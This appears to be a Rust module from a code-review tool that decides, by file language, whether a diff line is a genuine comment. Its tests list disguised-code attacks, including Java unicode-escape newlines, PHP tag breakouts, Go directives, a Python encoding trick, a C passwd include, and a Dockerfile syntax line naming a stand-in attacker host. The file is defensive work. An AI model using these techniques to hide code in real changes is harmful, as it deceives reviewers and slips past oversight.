//! Comment syntax by a file's language: what "the change touches comments only" (low risk) may
//! count as a comment. A line is a comment only where its file's language says so: `#` is a
//! comment in Python and a preprocessor directive in C, `*_, = [...]` is code in Python, and a
//! file of an unknown language has no comments at all.
//!
//! With `-U0` diffs a line is read alone: nothing says whether it sits inside a block comment or
//! a string, so only what is a whole comment by itself counts (`// x`, a one-line `/* x */`); a
//! `*` continuation line, an unterminated `/*`, a comment that continues onto the next line (a
//! trailing `\` in C) and the comments a tool reads as directives (a shebang, `# coding:`,
//! Dockerfile's `# syntax=`, `//go:generate`, a Java `\u` escape) are not comments.

/// How a language writes a comment.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Syntax {
    /// `# ...`: Python, shell, Ruby, Perl, YAML, TOML, R, Makefile, Dockerfile...
    Hash,
    /// `// ...` and a one-line `/* ... */`: C-family, Rust, Java, JS/TS, C#, Swift, Kotlin...
    Slash,
    /// Go: as [`Syntax::Slash`], and `//go:...`-style lines are directives.
    Go,
    /// `-- ...`: SQL, Lua, Haskell, Ada, Elm.
    Dash,
    /// `; ...`: Lisp, Clojure, ini files, assembly.
    Semi,
    /// A one-line `/* ... */` only: CSS.
    Block,
    /// A one-line `<!-- ... -->`: HTML, XML, Markdown.
    Markup,
}

/// The comment syntax of the file at `path`, by its name or extension; `None` when unknown.
pub(super) fn syntax(path: &str) -> Option<Syntax> {
    use Syntax::*;
    let name = path.rsplit('/').next().unwrap_or(path);
    let by_name = match name {
        "Makefile" | "makefile" | "GNUmakefile" | "Dockerfile" | "Containerfile" | "Rakefile"
        | "Gemfile" | "Vagrantfile" | "Brewfile" | "Pipfile" | "CMakeLists.txt" | "BUILD"
        | "WORKSPACE" | ".gitignore" | ".dockerignore" | ".bashrc" | ".profile" => Some(Hash),
        _ => None,
    };
    if by_name.is_some() {
        return by_name;
    }
    let (_, ext) = name.rsplit_once('.')?;
    match ext.to_ascii_lowercase().as_str() {
        "py" | "pyi" | "pyw" | "sh" | "bash" | "zsh" | "ksh" | "fish" | "rb" | "pl" | "pm"
        | "yaml" | "yml" | "toml" | "r" | "mk" | "cmake" | "bzl" | "bazel" | "nix" | "jl"
        | "ex" | "exs" | "cr" | "nim" | "tcl" | "dockerfile" => Some(Hash),
        "c" | "h" | "cc" | "cpp" | "cxx" | "c++" | "hpp" | "hh" | "hxx" | "m" | "mm" | "cs"
        | "java" | "kt" | "kts" | "scala" | "groovy" | "gradle" | "swift" | "rs" | "js" | "mjs"
        | "cjs" | "jsx" | "ts" | "mts" | "cts" | "tsx" | "dart" | "php" | "proto" | "zig"
        | "sol" | "scss" | "less" => Some(Slash),
        "go" => Some(Go),
        "sql" | "lua" | "hs" | "lhs" | "elm" | "adb" | "ads" => Some(Dash),
        "lisp" | "lsp" | "el" | "clj" | "cljs" | "cljc" | "edn" | "scm" | "ss" | "rkt" | "ini"
        | "asm" | "nasm" => Some(Semi),
        "css" => Some(Block),
        "html" | "htm" | "xml" | "svg" | "md" | "markdown" => Some(Markup),
        _ => None,
    }
}

/// Whether `line` (without its newline) is, by itself, a comment or blank in `syntax`.
pub(super) fn comment(syntax: Syntax, line: &str) -> bool {
    let t = line.trim();
    if t.is_empty() {
        return true;
    }
    // The comment would go on onto the next line (C's line splicing, also through the `??/`
    // trigraph): what follows it, code included, would be a comment too.
    if t.ends_with('\\') || t.ends_with("??/") {
        return false;
    }
    use Syntax::*;
    match syntax {
        Hash => t.starts_with('#') && !hash_directive(t),
        Slash => slash(t),
        Go => slash(t) && !go_directive(t),
        Dash => dashes(t),
        Semi => t.starts_with(';'),
        Block => one_line(t, "/*", "*/"),
        Markup => one_line(t, "<!--", "-->"),
    }
}

/// `// ...` or a `/* ... */` closed at the line's end and nowhere before. Neither may hold a `\u`
/// escape (Java reads `\u000a` as a newline before it reads comments) or `?>` (it ends a PHP
/// comment, and PHP mode).
fn slash(t: &str) -> bool {
    (t.starts_with("//") || one_line(t, "/*", "*/")) && !t.contains("\\u") && !t.contains("?>")
}

/// A comment opened by `open` at the start of `t` and closed by `close` only at its end.
fn one_line(t: &str, open: &str, close: &str) -> bool {
    let Some(rest) = t.strip_prefix(open) else {
        return false;
    };
    rest.find(close)
        .is_some_and(|i| i + close.len() == rest.len())
}

/// `#` lines a tool reads: a shebang, an encoding declaration (Python, Ruby: `# coding: utf-7`
/// changes how the rest of the file is read), Ruby's magic comments, Emacs' `-*-` lines, and
/// Dockerfile parser directives (`# syntax=` picks the image that builds it).
fn hash_directive(t: &str) -> bool {
    let l = t.to_ascii_lowercase();
    t.starts_with("#!")
        || [
            "coding:",
            "coding=",
            "-*-",
            "frozen_string_literal",
            "syntax=",
            "escape=",
            "check=",
        ]
        .iter()
        .any(|d| l.contains(d))
}

/// Go's directives are comments without a space after `//` (`//go:generate`, `//go:linkname`,
/// `//export`, `//line`), and the old `// +build` constraint.
fn go_directive(t: &str) -> bool {
    let Some(rest) = t.strip_prefix("//") else {
        return false;
    };
    rest.chars().next().is_some_and(|c| !c.is_whitespace())
        || rest.trim_start().starts_with("+build")
}

/// `--` then whitespace or the end of the line, after any more dashes: MySQL needs the space
/// (`--1` is arithmetic), Haskell reads `-->` as an operator, Lua's `--[[` opens a block comment.
fn dashes(t: &str) -> bool {
    t.strip_prefix("--").is_some_and(|rest| {
        rest.trim_start_matches('-')
            .chars()
            .next()
            .is_none_or(char::is_whitespace)
    })
}

/// The comment test abo had before: any line starting with a comment marker of any language.
/// The control of the tests: the attacks got through it.
#[cfg(test)]
pub(super) fn old_comment(line: &str) -> bool {
    let t = line.trim();
    t.is_empty()
        || ["//", "#", "/*", "*", "--", ";", "<!--"]
            .iter()
            .any(|p| t.starts_with(p))
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;

    use super::*;

    fn is_comment(path: &str, line: &str) -> bool {
        syntax(path).is_some_and(|s| comment(s, line))
    }

    /// Code the old test took for comments, by file: each is code here, and was a comment before.
    const ATTACKS: &[(&str, &str)] = &[
        (
            "src/app.py",
            r#"*_, = [__import__("os").system("id > /tmp/x")]"#,
        ),
        ("src/app.py", "# -*- coding: utf-7 -*-"),
        ("src/app.py", "#!/bin/sh"),
        ("src/m.c", r#"#define printf(...) system("id")"#),
        ("src/m.c", "#include \"/etc/passwd\""),
        ("src/m.c", "// the next line is a comment too \\"),
        ("src/m.c", "/* an unterminated block comment"),
        ("src/m.c", "* a continuation line"),
        ("src/m.c", "/* x */ system(\"id\"); /* y */"),
        ("src/m.c", "-- x;"),
        (
            "src/A.java",
            "// \\u000a Runtime.getRuntime().exec(\"id\");",
        ),
        ("src/main.go", "//go:generate sh -c id"),
        ("web/i.php", "// x ?><?php system('id'); ?>"),
        ("web/i.php", "#[Attribute]"),
        ("src/main.go", "//go:linkname f runtime.f"),
        ("src/app.rb", "; system('id')"),
        ("src/app.js", "# not a comment in JavaScript"),
        ("src/app.js", "-- x"),
        ("Dockerfile", "# syntax=evil.example/frontend"),
        ("db/q.sql", "--1"),
        ("src/a.lua", "--[[ opens a block comment"),
        ("src/A.hs", "--> x"),
        ("src/a.rs", "# not a comment in Rust"),
        ("run.ps1", "# PowerShell: not a known language"),
        ("noext", "# a file of an unknown language"),
        ("src/x.unknown", "// unknown"),
        ("src/lib.rs", "*/ unsafe { run() } /*"),
    ];

    /// Real comments, each in its file's language.
    const COMMENTS: &[(&str, &str)] = &[
        ("src/app.py", "# why this works"),
        ("src/app.py", "    # indented"),
        ("src/app.py", ""),
        ("scripts/run.sh", "# usage: run.sh"),
        ("Makefile", "# build"),
        ("Dockerfile", "# base image"),
        ("ci/config.yml", "# a note"),
        ("Cargo.toml", "# pinned"),
        ("src/m.c", "// why"),
        ("src/m.c", "/* why */"),
        ("src/lib.rs", "/// documents the function"),
        ("src/main.go", "// Package main does x."),
        ("src/app.ts", "  // later"),
        ("db/q.sql", "-- the users"),
        ("src/a.lua", "-- note"),
        ("src/A.hs", "-- | haddock"),
        ("src/core.clj", ";; note"),
        ("config.ini", "; note"),
        ("site/style.css", "/* note */"),
        ("site/index.html", "<!-- note -->"),
    ];

    #[test]
    fn a_line_is_a_comment_only_in_its_files_language() {
        let got: Vec<(&str, &str, bool)> = ATTACKS
            .iter()
            .map(|(p, l)| (*p, *l, is_comment(p, l)))
            .collect();
        let want: Vec<(&str, &str, bool)> = ATTACKS.iter().map(|(p, l)| (*p, *l, false)).collect();
        assert_eq!(got, want);
        // The control: the old test took every one of them for a comment.
        for (p, l) in ATTACKS {
            assert!(old_comment(l), "{p}: {l:?} was already code");
        }
        let got: Vec<(&str, &str, bool)> = COMMENTS
            .iter()
            .map(|(p, l)| (*p, *l, is_comment(p, l)))
            .collect();
        let want: Vec<(&str, &str, bool)> = COMMENTS.iter().map(|(p, l)| (*p, *l, true)).collect();
        assert_eq!(got, want);
    }
}
